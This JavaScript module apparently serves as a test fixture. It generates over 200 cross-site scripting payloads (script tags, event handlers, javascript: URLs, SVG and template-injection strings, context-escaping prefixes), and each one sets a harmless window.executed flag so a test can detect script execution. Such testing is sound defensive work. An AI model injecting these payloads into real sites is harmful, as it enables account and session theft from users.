// Texts that would run as script where a page puts them into markup, an attribute, an address, a style or a script without care. Built from what
// gets a browser to run something (the kinds of the OWASP "XSS Filter Evasion" cheat sheet) times what would free it from the place it stands in.
// Each sets `executed` of the window.

const RUN = 'window.executed=1';

/** Markup that runs by itself or at the slightest touch. */
const vectors = [
  `<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script/x>${RUN}</script>`, `<script\n>${RUN}</script\n>`, `<script src=data:text/javascript,${RUN}></script>`,
  `<script type=module>${RUN}</script>`, `<script src=//127.0.0.1:9/x.js></script>`, `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}"`, `<img/src=x/onerror=${RUN}>`,
  `<img src=x onerror\n=\n${RUN}>`, `<img src=x:x onerror=&#119;indow.executed=1>`, `<image src=x onerror=${RUN}>`, `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><set onbegin=${RUN} attributeName=x to=y>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<math><mtext><script>${RUN}</script></mtext></math>`, `<math href="javascript:${RUN}">x</math>`, `<body onload=${RUN}>`, `<body onpageshow=${RUN}>`,
  `<iframe srcdoc="<script>parent.executed=1</script>"></iframe>`, `<iframe src="javascript:parent.executed=1"></iframe>`, `<iframe onload=${RUN}></iframe>`,
  `<object data="javascript:${RUN}"></object>`, `<object data="data:text/html,<script>opener.executed=1</script>"></object>`, `<embed src="javascript:${RUN}">`,
  `<video><source onerror=${RUN}></video>`, `<video src=x onerror=${RUN}></video>`, `<audio src=x onerror=${RUN}></audio>`, `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`, `<select autofocus onfocus=${RUN}></select>`, `<textarea autofocus onfocus=${RUN}></textarea>`, `<button autofocus onfocus=${RUN}>x</button>`,
  `<marquee onstart=${RUN}>x</marquee>`, `<style>@import'data:text/css,*{color:red}';</style>`, `<style onload=${RUN}></style>`, `<link rel=stylesheet href=data:text/css, onload=${RUN}>`,
  `<link rel=import href=data:text/html,x onerror=${RUN}>`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<base href="javascript:${RUN}//">`,
  `<form action="javascript:${RUN}"><input type=submit autofocus>`, `<form><button formaction="javascript:${RUN}">x</button></form>`, `<isindex action="javascript:${RUN}">`,
  `<table background="javascript:${RUN}"><tr><td>x</table>`, `<div style="background:url(javascript:${RUN})">x</div>`, `<div style="animation-name:x" onanimationstart=${RUN}>x</div>`,
  `<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<x contenteditable onblur=${RUN} autofocus>x</x>`, `<x onclick=${RUN}>x</x>`, `<a href="javascript:${RUN}">x</a>`, `<a href="java\tscript:${RUN}">x</a>`, `<a href="&#106;avascript:${RUN}">x</a>`,
  `<portal src="javascript:${RUN}">`, `<dialog open onclose=${RUN}><form method=dialog><button autofocus>x</button></form></dialog>`, `<p popover onbeforetoggle=${RUN}>x</p>`,
];

/** What ends the place that a text may stand in. */
const exits = ['"', "'", '">', "'>", '-->', '</title>', '</textarea>', '</script>', '</style>', '</option></select>', ']]>', '</template>', '</svg>', '\u2028', '</p>'];

/** Not markup: code, addresses and templates for places where those would be run. */
const others = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\nscript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `vbscript:${RUN}`, `//127.0.0.1:9/%0d%0aX: y`, `';${RUN};'`, `";${RUN};"`, `\`;${RUN};\``,
  `\${${RUN}}`, `{{constructor.constructor('${RUN}')()}}`, `#{${RUN}}`, `<%= ${RUN} %>`, `\\";${RUN}//`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `\u{ff1c}script\u{ff1e}${RUN}\u{ff1c}/script\u{ff1e}`, `" onfocus="${RUN}" autofocus="`, `' onmouseover='${RUN}' x='`,
  `x" style="background:red" y="`, `expression(${RUN})`, `url(javascript:${RUN})`, `};${RUN};{`, `*/${RUN}/*`, `__proto__`, `constructor`, `\u202e<script>${RUN}</script>`, `@import "javascript:${RUN}"`,
];

/** More than 200, each another. */
export const payloads = [...new Set([...vectors, ...others, ...vectors.map((vector, n) => exits[n % exits.length] + vector), ...vectors.map((vector, n) => exits[(n + 7) % exits.length] + vector)])];
